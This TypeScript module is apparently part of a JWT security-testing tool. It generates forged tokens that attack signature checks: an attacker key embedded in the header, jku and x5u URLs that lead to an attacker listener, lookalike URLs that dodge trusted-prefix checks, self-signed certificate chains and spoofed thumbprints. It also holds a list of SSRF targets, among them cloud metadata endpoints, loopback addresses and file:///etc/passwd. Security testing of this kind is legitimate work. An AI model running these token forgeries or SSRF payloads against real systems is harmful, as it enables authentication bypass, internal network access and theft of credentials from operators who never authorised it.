import { createHash } from 'node:crypto';
import { memberOf } from '../../json.js';
import { cve, rfc } from '../../lint/source.js';
import {
  ATTACKER_ALGORITHMS,
  type AttackerKind,
  attackerCertificates,
  attackerJwk,
  attackerKey,
} from '../attacker.js';
import { type Changes, compact, each, encode, headerWith, one } from '../compose.js';
import type { Attempt, JwsMutation } from '../mutation.js';
import type { OriginalJws } from '../original.js';
import { forgeSignature } from '../signer.js';

const SOURCES = [rfc(8725, '2.9'), rfc(8725, '3.10')] as const;

/** The token signed by the attacker, with a header that says so. */
function signedByAttacker(original: OriginalJws, kind: AttackerKind, changes: Changes): string {
  const alg = ATTACKER_ALGORITHMS[kind];
  const input = `${encode(headerWith(original, { alg, ...changes }))}.${original.payloadPart}`;
  return `${input}.${forgeSignature(alg, attackerKey(kind), input)}`;
}

const embed: JwsMutation = {
  id: 'jwk.embed',
  title: "the attacker's key in the header, under the id of the real one",
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [cve('CVE-2018-0114'), rfc(7515, '4.1.3'), rfc(8725, '3.10')],
  tests: 'the server checks the signature with the key that the token brings',
  make(original) {
    const kid = memberOf(original.header, 'kid');
    const kinds: readonly AttackerKind[] = ['rsa', 'ec', 'ed25519'];
    const tokens = kinds.map((kind): [string, string] => {
      const jwk = { ...attackerJwk(kind), ...(kid === undefined ? {} : { kid }) };
      return [kind, signedByAttacker(original, kind, { jwk })];
    });
    return each(Object.fromEntries(tokens));
  },
};

/** A URL in the header that leads to the attacker's keys. */
function urlSpoof(parameter: 'jku' | 'x5u', title: string, section: string): JwsMutation {
  return {
    id: `${parameter}.spoof`,
    title,
    of: 'jws',
    class: 'oob',
    needs: ['listener'],
    sources: [rfc(7515, section), ...SOURCES],
    tests: 'the server fetches keys from wherever a token says: the listener sees the request',
    make: (original, { listener }) =>
      listener === undefined
        ? [{ variant: '', missing: 'listener' }]
        : one(signedByAttacker(original, 'rsa', { [parameter]: listener })),
  };
}

const trustedPrefix: JwsMutation = {
  id: 'jku.trusted-prefix',
  title: "a `jku` that looks like the issuer's and leads elsewhere",
  of: 'jws',
  class: 'oob',
  needs: ['listener', 'issuer-url'],
  sources: [...SOURCES, rfc(3986, '3.2.1')],
  tests: 'the server compares the beginning of `jku`, or trusts a host that redirects',
  make(original, { listener }) {
    if (listener === undefined) return [{ variant: '', missing: 'listener' }];
    const issuer = original.claims && memberOf(original.claims, 'iss');
    if (typeof issuer !== 'string' || !URL.canParse(issuer)) return [{ variant: '', missing: 'issuer-url' }];
    const urls = lookalikes(new URL(issuer), new URL(listener));
    const signed = Object.entries(urls).map(([name, jku]): [string, string] => [
      name,
      signedByAttacker(original, 'rsa', { jku }),
    ]);
    return each(Object.fromEntries(signed));
  },
};

function lookalikes(trusted: URL, other: URL): Readonly<Record<string, string>> {
  const { protocol, host, pathname } = other;
  return {
    userinfo: `${protocol}//${trusted.hostname}@${host}${pathname}`,
    subdomain: `${protocol}//${trusted.hostname}.${host}${pathname}`,
    'open-redirect': `${trusted.origin}/redirect?url=${encodeURIComponent(other.href)}`,
    fragment: `${other.origin}${pathname}#${trusted.origin}/`,
    backslash: `${trusted.origin}\\@${host}${pathname}`,
  };
}

/** Where a server must never be led: itself, its neighbours, the cloud's metadata, its files. */
const INTERNAL = {
  'metadata-ipv4': 'http://169.254.169.254/latest/meta-data/',
  'metadata-name': 'http://metadata.google.internal/computeMetadata/v1/',
  loopback: 'http://127.0.0.1:22/',
  'loopback-ipv6': 'http://[::1]/',
  'loopback-name': 'http://localhost/',
  'loopback-decimal': 'http://2130706433/',
  file: 'file:///etc/passwd',
} as const;

const ssrf: JwsMutation = {
  id: 'jku.ssrf',
  title: "a `jku` inside the server's own network",
  of: 'jws',
  class: 'oob',
  needs: [],
  sources: [rfc(8725, '3.10'), rfc(8725, '2.9')],
  tests: 'the server can be made to send requests to places that only it reaches',
  make(original): readonly Attempt[] {
    const signed = Object.entries(INTERNAL).map(([name, jku]): [string, string] => [
      name,
      signedByAttacker(original, 'rsa', { jku }),
    ]);
    return each(Object.fromEntries(signed));
  },
};

const selfSigned: JwsMutation = {
  id: 'x5c.self-signed',
  title: "the attacker's certificate in the header, alone or with a root of the attacker's",
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [rfc(7515, '4.1.6'), rfc(8725, '3.10')],
  tests: 'the server checks that a chain is consistent, and not that it ends at a root it trusts',
  make(original) {
    const { selfSigned: alone, leaf, root } = attackerCertificates;
    return each({
      alone: signedByAttacker(original, 'rsa', { x5c: [alone] }),
      chain: signedByAttacker(original, 'rsa', { x5c: [leaf, root] }),
    });
  },
};

const garbageChain: JwsMutation = {
  id: 'x5c.garbage',
  title: 'an `x5c` that holds no certificates',
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [rfc(7515, '4.1.6')],
  tests: 'the server fails in another way than by refusing',
  make(original) {
    const kept = (x5c: readonly string[] | string) =>
      compact(headerWith(original, { x5c }), original.payloadPart, original.signaturePart);
    return each({ junk: kept(['AAAA']), empty: kept([]), text: kept('AAAA') });
  },
};

const mismatch: JwsMutation = {
  id: 'x5t.mismatch',
  title: "thumbprints of the attacker's certificate",
  of: 'jws',
  class: 'safe',
  needs: [],
  sources: [rfc(7515, '4.1.7'), rfc(7515, '4.1.8')],
  tests: 'the server looks for a key by thumbprint in what the token brings',
  make(original) {
    const der = Buffer.from(attackerCertificates.selfSigned, 'base64');
    const thumbprint = (hash: string) => createHash(hash).update(der).digest('base64url');
    const changes: Changes = { x5t: thumbprint('sha1'), 'x5t#S256': thumbprint('sha256') };
    return each({
      kept: compact(headerWith(original, changes), original.payloadPart, original.signaturePart),
      attacker: signedByAttacker(original, 'rsa', changes),
      'attacker-with-x5c': signedByAttacker(original, 'rsa', {
        ...changes,
        x5c: [attackerCertificates.selfSigned],
      }),
    });
  },
};

/** Tokens that bring the key to check them with, or say where it is. */
export const injectedKeys: readonly JwsMutation[] = [
  embed,
  urlSpoof('jku', 'a `jku` that leads to a listener of yours', '4.1.2'),
  urlSpoof('x5u', 'an `x5u` that leads to a listener of yours', '4.1.5'),
  trustedPrefix,
  ssrf,
  selfSigned,
  garbageChain,
  mismatch,
];
